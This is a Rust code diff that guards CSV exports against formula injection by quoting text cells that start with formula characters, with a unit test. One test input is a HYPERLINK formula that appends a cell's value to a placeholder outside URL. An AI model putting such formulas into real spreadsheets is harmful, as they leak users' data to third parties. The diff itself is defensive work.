@@ -101,6 +101,16 @@ pub fn xlsx(sheet: &Sheet) -> Result<Vec<u8>, XlsxError> {
     workbook.save_to_buffer()
 }
 
+/// A text cell as CSV carries it: one that a spreadsheet would take for a formula
+/// (`=`, `+`, `-`, `@`, a tab or a carriage return first) gets a leading `'`, so Excel
+/// shows it as text (M1: names and addresses come from phones). Numbers stay numbers.
+fn csv_cell(cell: &Cell) -> String {
+    match cell {
+        Cell::Text(text) if text.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{text}"),
+        other => other.display(),
+    }
+}
+
 /// The sheet as CSV: UTF-8 with a byte-order mark, one line per row, merged cells
 /// empty but for their first.
 pub fn csv(sheet: &Sheet) -> Result<Vec<u8>, csv::Error> {
@@ -108,7 +118,7 @@ pub fn csv(sheet: &Sheet) -> Result<Vec<u8>, csv::Error> {
     {
         let mut writer = csv::WriterBuilder::new().flexible(true).from_writer(&mut out);
         for row in &sheet.rows {
-            writer.write_record(row.iter().map(|(cell, _)| cell.display()))?;
+            writer.write_record(row.iter().map(|(cell, _)| csv_cell(cell)))?;
         }
         writer.flush()?;
     }
@@ -148,6 +158,46 @@ mod tests {
         let text = String::from_utf8(bytes[3..].to_vec()).expect("utf-8");
         assert!(text.starts_with("贫困人口动态调整情况统计表"));
         assert!(text.contains("地区,期初贫困人口,动态调整情况"));
+    }
+
+    #[test]
+    fn csv_text_that_would_be_a_formula_is_quoted_and_numbers_are_not() {
+        let sheet = Sheet {
+            rows: vec![vec![
+                (Cell::Text("=HYPERLINK(\"http://x.example/?\"&A1,\"张三\")".into()), Style::Data),
+                (Cell::Text("+86".into()), Style::Data),
+                (Cell::Text("-1".into()), Style::Data),
+                (Cell::Text("@SUM(A1)".into()), Style::Data),
+                (Cell::Text("\tx".into()), Style::Data),
+                (Cell::Text("\rx".into()), Style::Data),
+                (Cell::Text("张三".into()), Style::Data),
+                (Cell::Int(-3), Style::Data),
+                (Cell::Yuan(-150), Style::Data),
+            ]],
+            name: "t".into(),
+            width: 9,
+            merges: Vec::new(),
+            column_widths: Vec::new(),
+            freeze: None,
+        };
+        let bytes = csv(&sheet).expect("csv");
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
+        let record = reader.records().next().expect("a row").expect("csv");
+        let cells: Vec<&str> = record.iter().collect();
+        assert_eq!(
+            cells,
+            vec![
+                "'=HYPERLINK(\"http://x.example/?\"&A1,\"张三\")",
+                "'+86",
+                "'-1",
+                "'@SUM(A1)",
+                "'\tx",
+                "'\rx",
+                "张三",
+                "-3",
+                "-1.50"
+            ]
+        );
     }
 
     #[test]
